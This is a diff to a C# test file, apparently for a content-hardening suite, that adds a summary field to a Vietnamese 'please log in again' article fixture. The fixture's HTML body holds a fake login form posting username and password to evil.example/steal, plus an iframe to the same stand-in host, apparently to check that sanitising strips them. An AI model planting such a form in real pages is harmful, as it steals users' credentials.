@@ -65,6 +65,7 @@ public sealed class NestedHtmlTests(ContentHardeningSite site)
         {
             ["Title"] = "Thông báo đăng nhập lại",
             ["Path"] = "tin-tuc/thong-bao-dang-nhap-lai",
+            ["f.Article.Summary"] = "Tóm tắt.",
             ["BodyHtml"] = "<p>Hệ thống yêu cầu đăng nhập lại.</p><form action=\"https://evil.example/steal\" method=\"post\">" +
                 "<input name=\"user\"><input type=\"password\" name=\"pass\"><button type=\"submit\">Đăng nhập</button></form>" +
                 "<iframe src=\"https://evil.example/\"></iframe>",
